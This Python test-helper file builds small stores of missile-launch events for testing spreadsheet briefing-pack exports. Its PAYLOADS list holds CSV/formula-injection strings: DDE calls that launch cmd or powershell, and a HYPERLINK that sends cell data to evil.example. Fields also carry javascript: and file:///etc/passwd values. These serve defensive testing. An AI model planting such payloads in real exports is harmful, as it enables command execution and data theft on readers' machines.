"""Small stores and checks shared by the briefing-pack tests (no Qt)."""

from __future__ import annotations

import zipfile
from pathlib import Path

from nkbrief.store import Store

#: OWASP CSV/formula-injection payloads, plus DDE and error-value strings.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "@cmd|'/c notepad'!_xlbgnm.A1",
    "+cmd|' /C powershell'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "  =1+1",
    "＝1+1",
    "#N/A",
    "#DIV/0!",
]


def event(eid: str, date: str, **kw) -> dict:
    ev = {"id": eid, "date": date, "missile_class": "SRBM", "date_precision": "day"}
    ev.update(kw)
    return ev


def small_store(path: Path, *, payloads: bool = False) -> Store:
    """Six events over two years, with missiles, statements and calendar entries."""
    st = Store.open(path, seed=False)
    with st.write():
        b = st.new_batch("manual")
        st.insert_event(event("2016-06-22-irbm-wonsan", "2016-06-22", missile_class="IRBM",
                              missile_name="Musudan", count=2, distance_km=400.0, apogee_km=1413.6,
                              time_kst="05:58", time_utc="2016-06-21T20:58:00Z",
                              launch_site="Wonsan", latitude=39.17, longitude=127.48,
                              outcome="success", leader_attended=True,
                              description="Second of two launches that day.",
                              sources=["https://example.org/a", "Yonhap 2016-06-22"]), b,
                        missiles=[{"seq": 1, "missile_name": "Musudan", "missile_class": "IRBM",
                                   "distance_km": 150.0, "outcome": "failure",
                                   "source_ref": "https://example.org/m1"},
                                  {"seq": 2, "missile_name": "Musudan", "missile_class": "IRBM",
                                   "distance_km": 400.0, "apogee_km": 1413.6, "outcome": "success"}],
                        statements=[{"actor": "Tokyo", "summary": "Protested through the embassy.",
                                     "source": "https://example.org/s1"},
                                    {"actor": "Seoul", "summary": "Called an NSC meeting."}])
        st.insert_event(event("2016-09-05-mrbm-hwangju", "2016-09-05", missile_class="MRBM",
                              missile_name="Scud-ER", count=3, distance_km=1000.0,
                              sources=["https://example.org/b"]), b)
        st.insert_event(event("2017-05-01-srbm-unknown", "2017-05-01", date_precision="month",
                              count=None, distance_km=None, sources=[]), b)
        st.insert_event(event("2017-07-04-icbm-banghyon", "2017-07-04", missile_class="ICBM",
                              missile_name="Hwasong-14", count=1, distance_km=933.0,
                              apogee_km=2802.0, apogee_km_max=2900.0,
                              sources=["https://example.org/c", "https://example.org/a"]), b,
                        statements=[{"actor": "Washington", "summary": "Condemned the launch.",
                                     "source": "javascript:alert(1)"}])
        st.insert_event(event("2017-08-29-irbm-sunan", "2017-08-29", missile_class="IRBM",
                              missile_name="Hwasong-12", count=1, distance_km=2700.0,
                              landing_area="Pacific Ocean", sources=["file:///etc/passwd"]), b)
        st.insert_event(event("2017-11-29-icbm-pyongsong", "2017-11-29", missile_class="ICBM",
                              missile_name="Hwasong-15", count=1, distance_km=950.0,
                              apogee_km=4475.0, sources=["https://example.org/d"]), b)
        for entry in (
            {"id": "cong7", "date": "2016-05-06", "end_date": "2016-05-09", "category": "party_congress",
             "title": "7th Party Congress"},
            {"id": "ulchi17", "date": "2017-08-21", "end_date": "2017-08-31", "category": "exercise",
             "title": "Ulchi Freedom Guardian 2017"},
            {"id": "nt6", "date": "2017-09-03", "category": "nuclear_test", "title": "6th nuclear test"},
        ):
            st.insert_calendar_entry(entry | {"description": "", "sources": []}, b)
        if payloads:
            for i, p in enumerate(PAYLOADS):
                st.insert_event(event(f"2017-12-{i + 1:02d}-payload-{i}", f"2017-12-{i + 1:02d}",
                                      missile_name=p, launch_site=p, landing_area=p, description=p,
                                      notes=p, sources=[p, f"{p} more"]), b,
                                missiles=[{"seq": 1, "missile_name": p, "landing_area": p,
                                           "notes": p, "source_ref": p}],
                                statements=[{"actor": "Seoul", "summary": p, "source": p}])
            st.insert_calendar_entry({"id": "pay", "date": "2017-12-05", "category": "other",
                                      "title": PAYLOADS[7], "description": PAYLOADS[0],
                                      "sources": []}, b)
    return st


def sheet_xml(path: Path) -> dict[str, str]:
    """Every worksheet's XML, by archive name."""
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist()
                if n.startswith("xl/worksheets/sheet")}


def table_column(ws, header: str, header_row: int = 3) -> list:
    """The values under ``header`` in the table whose header row is ``header_row``, down to
    the sheet's last row."""
    heads = [c.value for c in ws[header_row]]
    col = heads.index(header) + 1
    return [ws.cell(r, col).value for r in range(header_row + 1, ws.max_row + 1)]
